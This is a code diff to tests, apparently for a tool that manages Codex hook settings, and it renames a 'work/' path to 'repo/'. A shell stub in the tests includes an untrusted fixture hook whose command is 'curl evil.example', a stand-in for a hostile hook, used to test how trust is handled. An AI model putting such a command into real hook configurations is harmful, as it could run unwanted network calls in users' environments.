@@ -164,7 +164,7 @@ fn a_project_has_settings_of_its_own() {
     let elsewhere = changed
         .iter()
         .filter(|file| !before.contains(file))
-        .find(|(name, _)| !name.starts_with("work/"));
+        .find(|(name, _)| !name.starts_with("repo/"));
     assert_eq!(elsewhere, None);
     assert_snapshot!(env.told(&["init", "--project", "--dry-run", "--client", "codex"]), @"
     Codex
@@ -368,7 +368,7 @@ while read -r line; do
     hook() { printf '{"key":"%s","command":"%s","sourcePath":"%s","currentHash":"sha256:1","trustStatus":"%s"}' "$@"; }
     ours=$(hook ours "hardwon hook --client codex" "$HOME/.codex/hooks.json" "$trust")
     other=$(hook other "curl evil.example" "$HOME/.codex/hooks.json" untrusted)
-    project=$(hook project "hardwon hook --client codex" "$HOME/work/.codex/hooks.json" untrusted)
+    project=$(hook project "hardwon hook --client codex" "$HOME/repo/.codex/hooks.json" untrusted)
     printf '{"id":%s,"result":{"data":[{"hooks":[%s,%s,%s]}]}}\n' "$id" "$ours" "$other" "$project";;
   *config/batchWrite*)
     printf '%s\n' "$line" > "$HOME/trusted"
